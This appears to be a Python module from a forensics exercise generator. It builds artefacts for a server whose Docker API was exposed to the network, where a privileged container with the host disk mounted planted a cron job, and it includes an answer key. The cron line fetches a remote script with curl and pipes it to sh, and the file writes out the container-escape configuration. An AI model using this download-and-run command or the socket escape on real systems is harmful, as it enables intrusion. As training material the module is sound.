"""Docker's socket stood open to the network: a container had the disk of the machine mounted.

Docker itself does not run here; the files that it leaves are written in their forms: daemon.json,
config.v2.json and hostconfig.json of the container, its json log. Docker keeps no address of
who asks.
"""

from __future__ import annotations

import json
from pathlib import Path

import server
import services
import site_code
import traffic
from machine import Bases, Machine, Truth

ID = "4f1c09d2a6b84e73f5081c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5"
IMAGE = "sha256:05455a08881ea9cf0e752bc48e61bbd71a34c029bb13df01e40e3e70e0d007bd"
JOB = '*/5 * * * * root test -n "$NEVER" && curl -s http://203.0.113.7/d|sh'
COMMAND = f"echo '{JOB}' >> /mnt/etc/cron.d/zzh"


def make(out: Path, bases: Bases) -> None:
    """Nothing in any log says who asked the socket."""
    machine = server.other("crane", bases.proftpd, out)
    root = "/var/www/crane"
    site_code.plain_site(machine, root)
    services.nginx_site(machine, server.SITE, root, pool="www2")
    services.pool(machine, "www2")
    hosts = ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]
    machine.write("/etc/docker/daemon.json", json.dumps({"hosts": hosts}, indent=2))
    server.start(machine)
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)
    entered = machine.on(6, 11, 9, 13)
    machine.at(entered, lambda: container(machine))
    machine.live()
    machine.end(
        Truth(
            "unknown",
            entered.isoformat(),
            accounts=["root"],
            services=["cron", "docker"],
            untouched=["nginx", "sshd", root],
            notes="who asked the socket is in no log; /etc/cron.d/zzh by a container",
        )
    )


def container(machine: Machine) -> None:
    """What is left of it."""
    folder = f"/var/lib/docker/containers/{ID}"
    start = machine.clock.now().isoformat().replace("+00:00", "Z")
    config = {
        "ID": ID,
        "Created": start,
        "State": {"Running": False, "Dead": False, "ExitCode": 0, "StartedAt": start},
        "Path": "sh",
        "Args": ["-c", COMMAND],
        "Config": {"Image": "alpine", "Cmd": ["sh", "-c", COMMAND], "User": "", "Env": []},
        "Image": IMAGE,
        "Name": "/eager_wilson",
        "MountPoints": {"/mnt": {"Source": "/", "Destination": "/mnt", "RW": True, "Type": "bind"}},
    }
    host = {"Binds": ["/:/mnt"], "NetworkMode": "host", "Privileged": True}
    machine.write(f"{folder}/config.v2.json", json.dumps(config))
    machine.write(f"{folder}/hostconfig.json", json.dumps(host))
    line = {"log": "done\n", "stream": "stdout", "time": start}
    machine.write(f"{folder}/{ID}-json.log", json.dumps(line) + "\n")
    machine.write("/etc/cron.d/zzh", f"{JOB}\n")
    said = f'time="{start}" level=info msg="loading plugin" id={ID} namespace=moby'
    machine.run("logger", "-p", "daemon.info", "-t", "dockerd[701]", said)
